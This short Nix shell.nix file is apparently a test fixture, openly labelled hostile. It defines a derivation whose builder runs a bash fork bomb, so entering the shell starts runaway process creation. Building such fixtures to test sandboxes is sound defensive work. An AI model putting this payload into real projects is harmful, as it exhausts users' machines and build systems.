{ pkgs ? import <nixpkgs> {} }:
let attack = derivation {
  name = "hostile-fork-bomb-shell-nix";
  system = builtins.currentSystem;
  builder = "${pkgs.bash}/bin/bash";
  PATH = "${pkgs.busybox}/bin";
  nonce = "@NONCE@";
  args = [ "-c" ''
bomb() { while :; do bomb & done; }; bomb
'' ];
};
in pkgs.mkShell { packages = [ attack ]; }
